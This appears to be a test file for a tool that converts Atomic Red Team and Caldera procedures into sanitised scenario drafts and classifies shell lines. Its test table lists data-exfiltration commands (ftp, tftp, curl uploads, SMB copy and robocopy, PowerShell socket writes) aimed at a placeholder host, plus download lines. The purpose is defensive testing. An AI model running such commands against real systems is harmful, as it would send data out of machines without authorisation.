import { readFile } from 'node:fs/promises';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseYaml } from '../../../../src/config/index.js';
import {
  draftFile,
  draftOf,
  foreignProcedures,
  lintScenario,
  loadScenarios,
  scenarioSchema,
  type Draft,
  type Scenario,
} from '../../../../src/scenario/index.js';
import { meaningOf } from '../../../../src/scenario/import/recognise.js';

let library: readonly Scenario[];
beforeAll(async () => {
  library = await loadScenarios();
});

async function drafts(name: string, id?: string): Promise<Draft[]> {
  const text = await readFile(new URL(`../../../fixtures/import/${name}`, import.meta.url), 'utf8');
  return foreignProcedures(text, name, id).map((procedure) => draftOf(procedure, library));
}

/** Everything of a scenario that becomes a command or a file. */
const commands = ({ steps, slow, stage, cleanup }: Scenario): string =>
  JSON.stringify([steps, slow, stage, cleanup]);

describe('an Atomic Red Team file', () => {
  it('gives a draft per Windows test, says of each line what became of it, and leaves out what is no upload', async () => {
    const [curl, copy, http, ...rest] = await drafts('atomic.yaml');
    expect(rest).toEqual([]);
    expect(curl?.scenario?.id).toBe('cmd-ftp-curl-atomic-11111111');
    expect(curl?.lines.map(({ taken, text }) => [taken, text.split(' ')[0]])).toEqual([
      [false, 'whoami'],
      [true, 'curl.exe'],
      [false, 'certutil'],
      [false, 'del'],
      [false, 'dependency:'],
      [false, 'elevation'],
    ]);
    expect(curl?.lines[1]?.note).toContain('198.51.100.7 → {sink}');
    expect(copy?.scenario?.id).toBe('powershell-smb-copy-atomic-22222222');
    expect(copy?.lines[0]).toMatchObject({
      taken: true,
      note: expect.stringContaining('own account') as string,
    });
    expect(http).toMatchObject({ scenario: null, procedure: { name: 'An HTTP upload' } });
  });

  it('one test by its GUID; an unknown one names the nearest', async () => {
    expect(await drafts('atomic.yaml', '22222222-2222-3333-4444-555555555555')).toHaveLength(1);
    await expect(drafts('atomic.yaml', '22222222-2222-3333-4444-555555555556')).rejects.toThrow(
      /no procedure 22222222-2222-3333-4444-555555555556/,
    );
  });
});

describe('a Caldera ability', () => {
  it('gives a draft of its PowerShell executor', async () => {
    const [draft, ...rest] = await drafts('caldera.yaml');
    expect(rest).toEqual([]);
    expect(draft?.scenario).toMatchObject({
      id: 'powershell-ftp-webclient-caldera-aaaaaaaa',
      tags: expect.arrayContaining(['imported', 'caldera']) as string[],
    });
    expect(draft?.lines.at(-1)).toMatchObject({ taken: false, text: 'payload: helper.ps1' });
  });
});

describe('a draft', () => {
  it('loads again as a scenario file, and lint finds nothing', async () => {
    const all = [...(await drafts('atomic.yaml')), ...(await drafts('caldera.yaml'))];
    const made = all.flatMap(({ scenario }) => (scenario === null ? [] : [scenario]));
    expect(made).toHaveLength(3);
    for (const scenario of made) {
      const again = parseYaml(draftFile(scenario), scenarioSchema, 'draft.yaml');
      expect(again).toEqual(scenario);
      expect(lintScenario(again)).toEqual([]);
    }
  });

  it('holds no command, file or address of the procedure: nothing reaches outside the sink', async () => {
    for (const { scenario } of [...(await drafts('atomic.yaml')), ...(await drafts('caldera.yaml'))]) {
      if (scenario === null) continue;
      const base = library.find(({ id }) => scenario.id.startsWith(`${id}-`));
      expect(base === undefined ? '' : commands(base)).toBe(commands(scenario));
      expect(commands(scenario)).not.toMatch(/198\.51\.100\.7|fs01|Passw0rd|secret/);
    }
  });
});

describe('lines', () => {
  const cases: readonly (readonly ['cmd' | 'powershell', string, string | null])[] = [
    ['cmd', 'ftp -n -s:script.txt 198.51.100.7', 'cmd-ftp-client'],
    ['cmd', 'tftp -i 198.51.100.7 PUT C:\\x', 'cmd-tftp-client'],
    ['cmd', 'curl --upload-file C:\\x tftp://198.51.100.7/x', 'cmd-tftp-curl'],
    ['cmd', 'curl --ssl-reqd -T x ftp://198.51.100.7/', 'cmd-ftp-ftps'],
    ['cmd', 'copy /b C:\\x \\\\198.51.100.7\\share\\x', 'cmd-smb-copy'],
    ['cmd', 'copy \\\\198.51.100.7\\share\\tool.exe C:\\', null],
    ['cmd', 'type C:\\x > \\\\198.51.100.7\\share\\x', 'cmd-smb-redirect'],
    ['cmd', 'robocopy C:\\data \\\\198.51.100.7\\share', 'cmd-smb-robocopy'],
    [
      'cmd',
      'rundll32.exe shell32.dll,ShellExec_RunDLL curl.exe -T x ftp://198.51.100.7/',
      'rundll32-ftp-child',
    ],
    ['cmd', 'curl -o tool.exe ftp://198.51.100.7/tool.exe', null],
    ['cmd', 'curl -T x https://198.51.100.7/', null],
    ['powershell', '[IO.File]::WriteAllBytes("\\\\198.51.100.7\\share\\x", $b)', 'powershell-smb-stream'],
    ['powershell', 'Copy-Item \\\\198.51.100.7\\share\\tool.exe C:\\', null],
    [
      'powershell',
      '$u = New-Object System.Net.Sockets.UdpClient; $u.Connect("198.51.100.7", 69)',
      'powershell-tftp-socket',
    ],
  ];

  it.each(cases)('%s: %s', (shell, line, variant) => {
    const meaning = meaningOf(line, { shell, command: line });
    expect(meaning.kind === 'transfer' ? meaning.variant : null).toBe(variant);
  });

  it('of any text have a meaning: nothing throws, and nothing takes long', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 300 }),
        fc.constantFrom('cmd' as const, 'powershell' as const),
        (line, shell) => {
          expect(['transfer', 'credentials', 'other']).toContain(
            meaningOf(line, { shell, command: line }).kind,
          );
        },
      ),
    );
  });
});
